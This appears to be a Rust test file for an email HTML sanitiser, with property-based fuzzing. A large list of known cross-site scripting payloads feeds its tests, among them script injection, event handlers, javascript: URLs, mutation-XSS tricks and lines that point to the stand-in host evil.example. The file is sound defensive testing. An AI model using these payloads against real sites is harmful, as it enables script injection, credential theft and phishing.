use std::time::Instant;

use proptest::prelude::*;

use super::*;

/// What must never come out, whatever went in.
fn assert_safe(html: &str) {
    let lower = html.to_ascii_lowercase();
    for bad in ["<script", "<iframe", "<object", "<embed", "<form", "<meta", "<base", "<link", "<style", "<svg", "<math"] {
        assert!(!lower.contains(bad), "{bad} in {html}");
    }
    for tag in tags(&lower) {
        for bad in ["javascript:", "vbscript:", "expression(", "url(", "position:", "data:text", "srcdoc", "formaction"] {
            assert!(!attributes_of(tag).iter().any(|(name, value)| name == bad || value.contains(bad)), "{bad} in {html}");
        }
        assert!(!attributes_of(tag).iter().any(|(name, _)| name.starts_with("on")), "handler in {html}");
    }
}

/// The tags of serialised HTML, whose attribute values are always in double quotes.
fn tags(html: &str) -> Vec<&str> {
    html.split('<').skip(1).map(until_closed).collect()
}

/// A tag without the text behind it: up to the first `>` that stands in no value.
fn until_closed(tag: &str) -> &str {
    let mut quoted = false;
    let end = tag.find(|c| {
        quoted ^= c == '"';
        c == '>' && !quoted
    });
    tag.get(..end.unwrap_or(tag.len())).unwrap_or(tag)
}

fn attributes_of(tag: &str) -> Vec<(String, String)> {
    let mut found = Vec::new();
    let mut rest = tag;
    while let Some((before, after)) = rest.split_once("=\"") {
        let name = before.rsplit(|c: char| c.is_whitespace() || c == '"').next().unwrap_or_default();
        let Some((value, next)) = after.split_once('"') else { break };
        found.push((name.to_owned(), value.to_owned()));
        rest = next;
    }
    found
}

const VECTORS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\" java\nscript:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"&#x6A;&#x61;vascript&colon;alert(1)\">x</a>",
    "<a href=\"\u{1}javascript:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD4=\"></object>",
    "<embed src=\"//evil.example/x.swf\">",
    "<form action=\"https://evil.example\"><input name=password><button formaction=javascript:alert(1)>go</button></form>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<base href=\"https://evil.example/\">",
    "<link rel=stylesheet href=\"https://evil.example/x.css\">",
    "<style>@import 'https://evil.example/x.css'; body{background:url(https://t.example)}</style>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<div style=\"width:expression(alert(1))\">x</div>",
    "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">x</div>",
    "<div style=\"background-image:u\\72l(https://t.example)\">x</div>",
    "<div style=\"-moz-binding:url(https://evil.example/x.xml#x)\">x</div>",
    "<div style='behavior:url(x.htc)'>x</div>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<a href='https://x.example' onclick=alert(1) target=_self rel=opener>x</a>",
    "<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">",
    "<img src=\"data:image/png;base64,aa\" onload=alert(1)>",
    "<img src=`x` onerror=`alert(1)`>",
    "<img \u{0}src=x o\u{0}nerror=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<select><option><img src=x onerror=alert(1)></select>",
    "<table background=\"javascript:alert(1)\"><tr><td>x</table>",
    "<p id=x name=y class=\"fixed inset-0\">x</p>",
    "<isindex action=javascript:alert(1) type=image>",
    "<body onload=alert(1)>x",
    "<a href=\"//evil.example\">x</a><a href=\"/api/auth/sign_out\">y</a><a href=\"\\\\evil\\x\">z</a>",
];

#[test]
fn known_attacks_come_to_nothing() {
    assert!(VECTORS.len() >= 30);
    for vector in VECTORS {
        for remote in [Remote::Block, Remote::Allow] {
            let cleaned = clean(vector, remote);
            assert_safe(&cleaned.html);
            assert_eq!(clean(&cleaned.html, remote).html, cleaned.html, "{vector}");
        }
        assert_safe(&text_to_html(vector));
    }
}

#[test]
fn links_are_kept_and_made_harmless() {
    let cleaned = clean("<a href='https://x.example/?a=1&b=2' title=t>x</a><a href=mailto:a@b.example>m</a>", Remote::Block);
    assert!(cleaned.html.contains("href=\"https://x.example/?a=1&amp;b=2\""), "{}", cleaned.html);
    assert_eq!(cleaned.html.matches("rel=\"noopener noreferrer nofollow\"").count(), 2);
    assert_eq!(cleaned.html.matches("target=\"_blank\"").count(), 2);
    assert_eq!(clean("<a href='/local'>x</a>", Remote::Block).html.matches("href").count(), 0);
}

#[test]
fn remote_pictures_wait_for_leave() {
    let html = "<img src=https://t.example/p.gif alt=Logo width=1><img src='//t.example/q.gif'>\
                <table background=http://t.example/b.png><tr><td>x</table>\
                <div style='background: url(https://t.example/c); color: red'>x</div>";
    let blocked = clean(html, Remote::Block);
    assert_eq!(blocked.blocked_remote_count, 4, "{}", blocked.html);
    assert!(!blocked.html.contains("t.example") && blocked.html.contains("alt=\"Logo\"") && blocked.html.contains("color:red"));
    let allowed = clean(html, Remote::Allow);
    assert!(allowed.html.contains("src=\"https://t.example/p.gif\""), "{}", allowed.html);
    assert!(!allowed.html.contains("t.example/b.png") && !allowed.html.contains("t.example/c"));
}

#[test]
fn pictures_of_the_mail_are_resolved_by_the_caller() {
    let html = "<img src=\"cid:logo%40x\"><img src=CID:other alt=o><p>cid:logo@x</p>";
    let cleaned = clean_with(html, Remote::Block, &|id| (id == "logo@x").then(|| "/file/1?a=1&b=2".to_owned()));
    assert!(cleaned.html.contains("src=\"/file/1?a=1&amp;b=2\""), "{}", cleaned.html);
    assert!(cleaned.html.contains("<p>cid:logo@x</p>") && !cleaned.html.to_lowercase().contains("cid:other"));
    assert_eq!(cleaned.blocked_remote_count, 0);
}

#[test]
fn data_pictures_are_raster_only() {
    let keeps = |address: &str| clean(&format!("<img src=\"{address}\">"), Remote::Block).html.contains("src=");
    assert!(keeps("data:image/png;base64,iVBORw0KGgo="));
    assert!(keeps("DATA:image/JPEG;base64,aa+/"));
    for bad in ["data:image/svg+xml;base64,aa", "data:text/html;base64,aa", "data:image/png,<svg>", "data:image/png;base64,a b", "data:,x"] {
        assert!(!keeps(bad), "{bad}");
    }
}

#[test]
fn styles_keep_looks_and_lose_reach() {
    let cleaned = clean("<p style=\"color: red; position: absolute; z-index: 9; FONT-size: 12px; opacity: 0; margin: 0 auto\">x</p>", Remote::Block);
    for gone in ["position", "z-index", "opacity"] {
        assert!(!cleaned.html.contains(gone), "{}", cleaned.html);
    }
    assert!(cleaned.html.contains("color:red") && cleaned.html.contains("margin:0 auto"), "{}", cleaned.html);
}

#[test]
fn cost_stays_bounded() {
    let big = [
        "<div>".repeat(900_000),
        "<p><b id=a><i id=b><font size=1>".repeat(100_000),
        "<table><tr><td>".repeat(200_000),
        "<a href=x><b>".repeat(300_000),
        "<div><!--</div>--><p title=\"</div>\">".repeat(100_000),
        format!("<table><tr>{}</table>", "<td colspan=1000000000 rowspan=65000>x".repeat(20)),
        "<ul><li>".repeat(400_000),
        "<".repeat(3_000_000),
        "<a style='color:red;color:red'>".repeat(100_000),
        "&amp;".repeat(300_000),
    ];
    for html in &big {
        let begun = Instant::now();
        assert_safe(&clean(html, Remote::Block).html);
        let text = to_text(html);
        assert!(text.len() <= 3_000_000);
        let took = begun.elapsed().as_secs();
        // Generous: a quadratic cost would take hours, and a busy machine some multiple of the usual second.
        assert!(took < 60, "{took} s for {}", html.get(..40).unwrap_or_default());
    }
}

#[test]
fn html_becomes_readable_text() {
    let text = to_text(
        "<html><head><title>T</title><style>p{}</style></head><body><h1>Hello</h1><p>a &amp; b<br>c</p>\
         <ul><li>one</li><li>two</li></ul><script>x</script><p>see <a href='https://x.example'>here</a></p></body></html>",
    );
    for part in ["Hello", "a & b\nc", "* one", "* two", "here"] {
        assert!(text.contains(part), "{part} not in {text}");
    }
    assert!(!text.contains("p{}") && !text.contains('<') && !text.contains("script"));
    assert_eq!(to_text(""), "");
}

#[test]
fn text_becomes_safe_html() {
    let check = |text: &str, html: &str| assert_eq!(text_to_html(text), html, "{text}");
    check("a\nb", "a<br>b");
    check("<b>&\"'", "&lt;b&gt;&amp;&quot;&#39;");
    check("> x\n>> y\nz", "<blockquote class=\"quote-1\">x<blockquote class=\"quote-2\">y</blockquote></blockquote>z");
    check("> > x", "<blockquote class=\"quote-1\"><blockquote class=\"quote-2\">x</blockquote></blockquote>");
    let link = text_to_html("see https://x.example/a?b=1&c=2. Or (www.y.example), or me@z.example!");
    assert!(link.contains("<a href=\"https://x.example/a?b=1&amp;c=2\" target"), "{link}");
    assert!(link.contains("href=\"https://www.y.example\"") && link.contains("href=\"mailto:me@z.example\""), "{link}");
    assert!(link.contains("</a>), or") && link.ends_with("</a>!"), "{link}");
    assert!(!text_to_html("https://x.example/\"onmouseover=\"alert(1)").contains("\"onmouseover"));
    assert!(!text_to_html("javascript:alert(1)").contains("href"));
    assert_eq!(text_to_html(&">".repeat(1000)).matches("<blockquote").count(), 6);
    assert_eq!(clean(&text_to_html("> quoted"), Remote::Block).html, "<blockquote class=\"quote-1\">quoted</blockquote>");
}

fn piece() -> impl Strategy<Value = String> {
    prop_oneof![
        proptest::sample::select(VECTORS).prop_map(str::to_owned),
        proptest::sample::select(
            &[
                "<p>",
                "</p>",
                "<b>",
                "</b>",
                "<table>",
                "<tr>",
                "<td>",
                "</table>",
                "<div style='color:red'>",
                "</div>",
                "<a href=https://x>",
                "</a>",
                "<!--",
                "-->",
                "<svg>",
                "</svg>",
                "<style>",
                "</style>",
                "<math>",
                "<mtext>",
                "\"",
                "'",
                "<",
                ">",
                "&lt;",
                "&#x3c;",
                "<img src=",
                " onerror=",
                "<blockquote class='quote-1'>",
                "<select>",
                "<option>",
                "<noscript>",
                "<li>",
                "<font color=red>",
            ][..]
        )
        .prop_map(str::to_owned),
        "\\PC{0,12}",
    ]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(400))]

    #[test]
    fn cleaning_is_safe_and_settled(pieces in proptest::collection::vec(piece(), 0..14)) {
        let html = pieces.concat();
        let cleaned = clean(&html, Remote::Block);
        assert_safe(&cleaned.html);
        prop_assert_eq!(&clean(&cleaned.html, Remote::Block).html, &cleaned.html);
        let _ = to_text(&html);
        assert_safe(&text_to_html(&html));
    }
}
